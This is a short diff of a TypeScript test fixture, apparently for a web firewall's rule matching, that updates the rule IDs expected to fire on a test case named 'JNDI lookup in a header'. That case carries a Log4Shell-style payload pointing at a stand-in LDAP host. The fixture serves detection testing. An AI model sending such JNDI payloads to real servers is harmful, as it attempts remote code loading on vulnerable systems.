@@ -50,7 +50,7 @@ const EXCHANGES: Exchange[] = [
   {
     name: "JNDI lookup in a header",
     request: { headers: [...BROWSER, ["x-api-version", "${jndi:ldap://x.example/a}"]] },
-    rules: ["dog-931-001"],
+    rules: ["dog-000-002", "sqr-000-017"],
   },
   {
     name: "page for people",
